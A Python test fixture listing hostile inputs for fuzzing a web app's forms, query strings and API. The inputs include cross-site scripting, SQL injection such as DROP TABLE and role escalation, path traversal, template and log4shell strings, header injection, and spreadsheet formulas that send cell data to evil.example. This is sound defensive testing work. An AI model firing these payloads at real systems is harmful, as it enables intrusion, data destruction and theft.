"""Hostile values for every input of the app: one corpus that the query-string, form and API tests all send.

A value is a str, or bytes for what is not valid UTF-8 (sent raw in a body, percent-encoded in a URL). Every
cross-site-scripting payload calls `alert` or names `ovozxss`, so a page that shows one live is easy to spot.
`spread` deals the values out over places to put them, so that each value goes everywhere once in total rather
than every value everywhere (the suite runs twice in CI on two cores).
"""

from collections.abc import Sequence

MEGABYTE = 1_000_000

SCRIPTING = {
    "script": "<script>alert(1)</script>",
    "script upper": "<SCRIPT>alert('ovozxss')</SCRIPT>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in nul": "<scr\x00ipt>alert(1)</script>",
    "script unclosed": "<script>alert(1)",
    "script in attribute break": '"><script>alert(1)</script>',
    "script in single quote break": "'><script>alert(1)</script>",
    "script after textarea": "</textarea><script>alert(1)</script>",
    "script after title": "</title><script>alert(1)</script>",
    "script after style": "</style><script>alert(1)</script>",
    "script in comment": "<!--<script>alert(1)</script>-->",
    "script in cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "script json breakout": '</script><script>alert("ovozxss")</script>',
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror quoted": '<img src="x" onerror="alert(\'ovozxss\')">',
    "img onerror eval": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "img no quotes slash": "<img/src=x/onerror=alert(1)>",
    "img backtick": "<img src=`x` onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg slash onload": '"><svg/onload=alert(1)>',
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">ovozxss</text></a></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg use data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math mtext mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed src": '<embed src="javascript:alert(1)">',
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>ovozxss</marquee>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "audio onerror": "<audio src=x onerror=alert(1)>",
    "custom tag onclick": "<ovozxss onclick=alert(1)>click</ovozxss>",
    "tabindex onfocusin": "<x id=x tabindex=1 onfocusin=alert(1)>",
    "a onclick": '<a href="#" onclick="alert(1)">ovozxss</a>',
    "a javascript": '<a href="javascript:alert(1)">ovozxss</a>',
    "a javascript mixed case": '<a href="JaVaScRiPt:alert(1)">ovozxss</a>',
    "a javascript entity": '<a href="&#106;avascript:alert(1)">ovozxss</a>',
    "a javascript hex entity": '<a href="&#x6A;avascript&#x3A;alert(1)">ovozxss</a>',
    "a javascript tab": '<a href="java\tscript:alert(1)">ovozxss</a>',
    "a javascript leading space": '<a href=" javascript:alert(1)">ovozxss</a>',
    "a vbscript": '<a href="vbscript:msgbox(1)">ovozxss</a>',
    "a data html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ovozxss</a>',
    "form action": '<form action="javascript:alert(1)"><button>ovozxss</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">ovozxss</button>',
    "base href": '<base href="//evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link import": '<link rel="import" href="https://evil.example/x.html">',
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style expression": '<div style="width: expression(alert(1))">ovozxss</div>',
    "style url javascript": '<div style="background:url(javascript:alert(1))">ovozxss</div>',
    "table background": '<table background="javascript:alert(1)">',
    "markdown link javascript": "[ovozxss](javascript:alert(1))",
    "markdown link javascript upper": "[ovozxss](JAVASCRIPT:alert(1))",
    "markdown link javascript entity": "[ovozxss](javascript&#58;alert(1))",
    "markdown link javascript space": "[ovozxss](  javascript:alert(1)  )",
    "markdown link data": "[ovozxss](data:text/html,<script>alert(1)</script>)",
    "markdown link vbscript": "[ovozxss](vbscript:msgbox(1))",
    "markdown reference javascript": "[ovozxss][1]\n\n[1]: javascript:alert(1)",
    "markdown autolink javascript": "<javascript:alert(1)>",
    "markdown image onerror": '![ovozxss](x" onerror="alert(1))',
    "markdown link title breakout": '[ovozxss](https://example.org "x\\" onmouseover=\\"alert(1)")',
    "markdown html block": "<div>\n<script>alert(1)</script>\n</div>",
    "markdown code span": "`<script>alert(1)</script>`",
    "autolink quote breakout": '<https://evil.example/" onclick="alert(1)>',
    "url encoded script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "double url encoded script": "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "entity encoded script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entity script": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "js escaped script": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "fullwidth script": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "utf7 script": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "attribute event only": '" onmouseover="alert(1)',
    "attribute event single": "' onmouseover='alert(1)",
    "javascript url bare": "javascript:alert(1)",
    "javascript url encoded": "javascript%3Aalert(1)",
    "data url bare": "data:text/html,<script>alert(1)</script>",
    "template jinja": "{{ config.SECRET_KEY }}{{7*7}}",
    "template jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template dollar": "${7*7}",
    "template erb": "<%= 7*7 %>",
    "template ruby": "#{7*7}",
    "log4shell": "${jndi:ldap://evil.example/a}",
}

INVISIBLE_AND_BIDI = {
    "right-to-left override": "\u202eevil\u202c",
    "left-to-right override": "\u202dgood\u202c",
    "bidi embeddings": "\u202aleft\u202c\u202bright\u202c",
    "bidi isolates": "\u2066a\u2069\u2067b\u2069\u2068c\u2069",
    "trojan source": 'access_level != "user\u202e \u2066// Check if admin\u2069 \u2066"',
    "file name spoof": "invoice\u202egpj.exe",
    "only bidi": "\u202e\u202d\u202c",
    "zero-width space": "a\u200bb",
    "only zero-width": "\u200b\u200d \u2060",
    "zero-width joiners": "\u200c\u200d\u200c\u200d",
    "word joiner": "x\u2060y",
    "byte order mark": "\ufeffBOM",
    "soft hyphen": "in\u00advisible",
    "mongolian vowel separator": "a\u180eb",
    "left-to-right mark": "\u200eabc\u200f",
    "arabic letter mark": "\u061cabc",
    "hangul filler": "\u3164",
    "braille blank": "\u2800",
    "combining only": "\u0301\u0301\u0301",
    "line separator": "one\u2028two\u2029three",
}

SIZE = {
    "1 MB": "x" * MEGABYTE,
    "1 MB cyrillic": "ы" * (MEGABYTE // 2),
    "long word": "ы" * 2_000,
    "many parentheses": "(" * 50_000,
    "many brackets": "[" * 50_000,
    "deep blockquote": ">" * 10_000 + " ovozxss",
    "deep list": "".join("  " * n + "- x\n" for n in range(300)),
    "many emphasis": "*a" * 20_000,
    "many links": "https://example.org/ " * 5_000,
    "many lines": "\n" * 100_000,
    "many spaces": " " * 100_000,
}

MALFORMED_UTF8 = {
    "bytes ff fe": b"\xff\xfe",
    "lone continuation": b"\x80abc",
    "overlong slash": b"\xc0\xaf",
    "overlong nul": b"\xc0\x80",
    "encoded surrogate": b"\xed\xa0\x80",
    "truncated euro": b"\xe2\x82",
    "five-byte form": b"\xf8\x88\x80\x80\x80",
    "beyond unicode": b"\xf4\x90\x80\x80",
    "latin-1 text": "Müller café".encode("latin-1"),
    "cp1251 text": "Салом".encode("cp1251"),
    "utf-16 text": "ovoz".encode("utf-16"),
    "half valid": "Салом ".encode() + b"\xd0",
}

CONTROLS = {
    "nul": "a\x00b",
    "only nul": "\x00",
    "many nul": "\x00" * 100,
    "nul then script": "\x00<script>alert(1)</script>",
    "ansi escape": "\x1b[31mred\x1b[0m",
    "bell and backspace": "a\x07\x08b",
    "delete": "a\x7fb",
    "c1 controls": "a\x85\x9bb",
    "vertical tab form feed": "a\x0b\x0cb",
    "carriage return": "a\rb",
    "tab": "a\tb",
    "escape only": "\x1b",
    "unit separators": "a\x1e\x1fb",
}

NONCHARACTERS = {
    "U+FFFF": "\uffff",
    "U+FFFE": "a\ufffe",
    "U+FFFF and U+FFFE": "\uffff\ufffe",
    "U+FDD0": "\ufdd0x",
    "U+FDEF": "x\ufdef",
    "U+1FFFF": "\U0001ffff",
    "U+10FFFF": "\U0010ffff",
    "U+10FFFE": "z\U0010fffe",
    "private use": "\ue000\uf8ff",
    "supplementary private use": "\U000f0000",
    "replacement character": "\ufffd",
    "title with U+FFFF": "Free insulin\uffff for every child",
}

SQL = {
    "or true": "' OR '1'='1",
    "drop table": "'; DROP TABLE users; --",
    "double quote or": '" OR ""="',
    "pg sleep": "1; SELECT pg_sleep(10)",
    "mysql sleep": "1' AND SLEEP(5)#",
    "union select": "' UNION SELECT NULL, password_hash FROM users--",
    "comment dash": "admin'--",
    "numeric or": "1 OR 1=1",
    "dollar quote": "$$; DROP TABLE petitions; $$",
    "escape string": "E'\\x00'",
    "cast": "1::int",
    "concat version": "'||(SELECT version())||'",
    "like percent": "%",
    "like underscore": "_",
    "like wildcards": "%_%_%",
    "backslash": "\\",
    "escaped percent": "\\%",
    "semicolon": ";",
    "stacked": "1; UPDATE users SET role='admin'",
    "json path": "$.password",
    "sqlite attach": "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
}

NUMBERS = {
    "huge": "99999999999999999999999",
    "past 2^63": str(2**63),
    "2^63 - 1": str(2**63 - 1),
    "2^64": str(2**64),
    "2^31": str(2**31),
    "2^31 - 1": str(2**31 - 1),
    "2^32": str(2**32),
    "below -2^63": str(-(2**63) - 1),
    "negative": "-1",
    "negative huge": "-99999999999999999999999",
    "zero": "0",
    "negative zero": "-0",
    "leading zeros": "0000000001",
    "googol": "1" + "0" * 100,
    "400 nines": "9" * 400,
    "exponent": "1e308",
    "float overflow": "1e309",
    "infinity": "Infinity",
    "minus infinity": "-inf",
    "not a number": "NaN",
    "fraction": "1.5",
    "underscored": "1_000",
    "padded": " 1 ",
    "plus": "+1",
    "hex": "0x10",
    "superscript": "²",
    "arabic digits": "١٢٣",
    "fullwidth digits": "１２３",
    "circled digit": "①",
    "devanagari digits": "४२",
}

DATES = {
    "year one": "0001-01-01",
    "far future": "9999-12-31T23:59:59",
    "year zero": "0000-00-00",
    "negative year": "-001-01-01",
    "five-digit year": "10000-01-01",
    "30 February": "2024-02-30",
    "month 13": "2024-13-01",
    "short date": "2024-1-1",
    "hour 25": "2024-01-01T25:00",
    "epoch": "1970-01-01T00:00:00Z",
    "slashes": "01/02/2024",
    "words": "tomorrow",
}

PATHS = {
    "traversal": "../../etc/passwd",
    "traversal encoded": "..%2f..%2fetc%2fpasswd",
    "traversal doubled": "....//....//etc/passwd",
    "traversal windows": "..\\..\\windows\\win.ini",
    "traversal nul": "../../etc/passwd\x00.png",
    "traversal overlong": "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "file url": "file:///etc/passwd",
    "unc path": "\\\\evil.example\\share",
    "device": "/dev/zero",
    "windows device": "CON",
    "absolute windows": "C:\\boot.ini",
    "dot": ".",
    "dot dot": "..",
}

HEADERS_AND_REDIRECTS = {
    "line break": "/en/\r\nSet-Cookie: x=1",
    "encoded line break": "/en/%0d%0aSet-Cookie:%20x=1",
    "newline location": "/\nLocation: https://evil.example/",
    "off-site": "//evil.example/",
    "backslash off-site": "/\\evil.example",
    "https off-site": "https://evil.example/",
    "tab off-site": "/\t/evil.example",
    "triple slash": "///evil.example",
    "scheme without slashes": "https:evil.example",
    "at host": "@evil.example",
    "internal service": "http://127.0.0.1:6379/",
    "mail header injection": "amina@example.org\r\nBcc: victim@example.org",
    "mail header encoded": "amina@example.org%0aBcc:victim@example.org",
    "mail display name": '"Amina" <amina@example.org>',
    "quoted local part": '"a b"@example.org',
    "ip literal mail": "a@[127.0.0.1]",
    "homograph mail": "amina@ex\u0430mple.org",
    "long local part": "a" * 300 + "@example.org",
}

FORMULAS = {
    "formula": "=1+1",
    "hyperlink formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus formula": "+1+1",
    "minus formula": "-1+1",
    "at formula": "@SUM(1+1)",
    "tab formula": "\t=1+1",
    "carriage return formula": "\r=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "dde minus": "-2+3+cmd|' /C calc'!E2",
    "importxml": '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    "quoted formula": '"=1+1"',
    "csv break": 'a","=1+1',
    "csv newline": "a,b\nc,d",
}

SCRIPTS_AND_EMOJI = {
    "mixed scripts": "Салом Hello 👋🏽 مرحبا",
    "family emoji": "👨\u200d👩\u200d👧\u200d👦",
    "flags": "🇹🇯🇺🇿🇦🇿🇰🇿🇰🇬",
    "skin tones": "👍🏻👍🏿",
    "zalgo": "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "mathematical letters": "𝕳𝖊𝖑𝖑𝖔",
    "tajik": "Ҷумҳурии Тоҷикистон",
    "uzbek": "Oʻzbekiston Respublikasi",
    "azerbaijani": "Azərbaycan Respublikası",
    "kazakh": "Қазақстан Республикасы",
    "kyrgyz": "Кыргыз Республикасы",
    "arabic": "السلام عليكم",
    "hebrew": "שלום עולם",
    "persian with digits": "سلام ۱۲۳",
    "rtl then ltr": "مرحبا Hello مرحبا",
    "cjk": "你好世界",
    "thai": "สวัสดีชาวโลก",
    "devanagari": "नमस्ते दुनिया",
    "homoglyph admin": "\u0430dmin",
    "decomposed": "e\u0301te\u0301",
    "ligature": "\ufb01le",
    "upside down": "ʇxǝʇ uʍop ǝpᴉsdn",
    "tibetan stack": "ཧྐྵྨླྺྼྻྂ",
    "emoji only": "🙂",
    "keycap": "1\ufe0f\u20e3",
}

OTHER = {
    "empty": "",
    "space": " ",
    "no-break space": "\u00a0",
    "ideographic space": "\u3000",
    "em spaces": "\u2003\u2003",
    "blank lines": "\n\n\n",
    "padded text": "   x   ",
    "format string": "%s%s%s%n",
    "python format": "{0.__class__}",
    "named format": "%(password)s",
    "proto": "__proto__",
    "null": "null",
    "none": "None",
    "undefined": "undefined",
    "true": "true",
    "json array": "[]",
    "json object": '{"$ne": null}',
    "regex bomb": "(a+)+$" + "a" * 30 + "!",
    "ampersand": "Tom & Jerry",
    "less than": "1 < 2 > 0",
}

CATEGORIES = (
    SCRIPTING,
    INVISIBLE_AND_BIDI,
    SIZE,
    MALFORMED_UTF8,
    CONTROLS,
    NONCHARACTERS,
    SQL,
    NUMBERS,
    DATES,
    PATHS,
    HEADERS_AND_REDIRECTS,
    FORMULAS,
    SCRIPTS_AND_EMOJI,
    OTHER,
)
#: Every hostile value by name.
HOSTILE: dict[str, str | bytes] = {name: value for category in CATEGORIES for name, value in category.items()}
assert len(HOSTILE) == sum(map(len, CATEGORIES)), "two values share a name"
assert len(set(HOSTILE.values())) == len(HOSTILE), "a value is listed twice"
NAMES = tuple(HOSTILE)

#: The values every query argument of every page is given (each of them once broke a page): numbers past what
#: the database holds, Unicode digits, dates out of range, a header break, a NUL, a noncharacter, markup.
EVERYWHERE = (
    "huge",
    "past 2^63",
    "negative",
    "superscript",
    "arabic digits",
    "year one",
    "far future",
    "line break",
    "off-site",
    "nul",
    "U+FFFF and U+FFFE",
    "script",
    "right-to-left override",
    "long word",
)


def spread(places: Sequence, names: Sequence[str] = NAMES, offset: int = 0) -> dict:
    """Deal `names` out over `places` in turn, starting at `offset`: {place: [name, ...]}, each name given once,
    each place as many names as the others (give or take one)."""
    dealt = {place: [] for place in places}
    for index, name in enumerate(names):
        dealt[places[(index + offset) % len(places)]].append(name)
    return dealt


def deal(kinds: dict[str, Sequence], at_least: int = 1, names: Sequence[str] = NAMES) -> dict:
    """Deal `names` out to places grouped by kind: {place: [name, ...]}. Every name goes once to every kind, its
    places taking turns, and again to kinds of many places until each place has at least `at_least` names."""
    dealt = {}
    for offset, places in enumerate(kinds.values()):
        for turn in range(-(-at_least * len(places) // len(names))):
            for place, given in spread(places, names, offset + turn).items():
                dealt.setdefault(place, []).extend(given)
    return dealt


#: The longest query string or path a server in front of the app lets through (nginx's default header buffer is
#: 8 KB; gunicorn's request line is shorter still): longer values are only ever sent in bodies.
URL_MAX = 8_192
IN_URLS = tuple(
    name for name, value in HOSTILE.items() if len(value if isinstance(value, bytes) else value.encode()) <= URL_MAX
)


def as_text(value: str | bytes) -> str:
    """A value as a server reads it: bytes that are not UTF-8 become U+FFFD."""
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value
